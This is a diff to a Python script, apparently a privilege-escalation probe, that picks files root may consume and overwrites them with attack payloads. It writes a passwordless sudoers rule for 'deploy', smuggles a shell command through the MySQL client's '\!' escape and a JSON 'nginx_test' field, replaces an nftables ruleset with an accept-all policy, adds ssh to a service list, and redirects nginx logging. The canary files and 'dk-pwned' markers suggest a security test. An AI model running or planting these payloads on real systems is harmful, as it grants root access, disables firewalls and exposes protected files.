@@ -41,8 +41,8 @@ ME = os.getuid()
 OWN = {os.path.realpath(sys.argv[0]), LOG, STOP, PID, os.path.join(HOME, "watcher.out")}
 
 
-def leak(tag):
-    return f"cp {CANARY} /tmp/dk-leak-{tag}; chmod 644 /tmp/dk-leak-{tag}"
+def leak(tag):  # no ";": the mysql client's \! ends its command there
+    return f"cp {CANARY} /tmp/dk-leak-{tag} && chmod 644 /tmp/dk-leak-{tag}"
 
 
 def same_line(text, pattern, new):
@@ -58,12 +58,12 @@ def same_line(text, pattern, new):
 
 def payload(name, text):
     """(kind, new text) for a file root might consume; None for anything else."""
-    if "NOPASSWD" in text or "sudoers" in name:
+    if re.search(r"(?m)^\S+ +ALL *=", text) or "sudoers" in name:
         return "sudoers", "deploy ALL=(ALL:ALL) NOPASSWD: ALL\n"
-    if "[Service]" in text or "[Unit]" in text or "[mysqld]" in text:
+    if re.search(r"(?m)^\[(Unit|Service|mysqld)\]", text):
         new = same_line(text, r"#", "# dk-pwned")
         return ("config", new) if new else None
-    if "table inet" in text:
+    if re.search(r"(?m)^table inet \S+ \{", text):
         return "nftables", ("table inet dojangkok\ndelete table inet dojangkok\n"
                             "table inet dojangkok {\n chain input {\n"
                             "  type filter hook input priority 0; policy accept;\n }\n}\n")
@@ -74,15 +74,15 @@ def payload(name, text):
             doc = json.loads(text)
         except ValueError:
             return None
-        doc["nginx_test"] = leak("json") + "; " + doc["nginx_test"]
+        doc["nginx_test"] = leak("json") + " && " + doc["nginx_test"]
         doc["units"] = doc.get("units", []) + ["ssh"]
         doc.pop("about", None)
         return "helper-config", json.dumps(doc)
-    if "IDENTIFIED" in text or "FLUSH PRIVILEGES" in text:
+    if re.search(r"(?m)^(CREATE|ALTER|GRANT|FLUSH) ", text):
         return "sql", "\\! " + leak("sql") + "\nSELECT 1;\n"
     if text.startswith("[client]"):
         return "option-file", "[client]\nuser=nobody\npassword=x\n"
-    if "server {" in text or "location " in text:
+    if re.search(r"(?m)^ *(server|location) .*\{", text):
         new = same_line(text, r"#", "error_log /tmp/dk-pwned-nginx info;")
         return ("nginx", new) if new else None
     return None
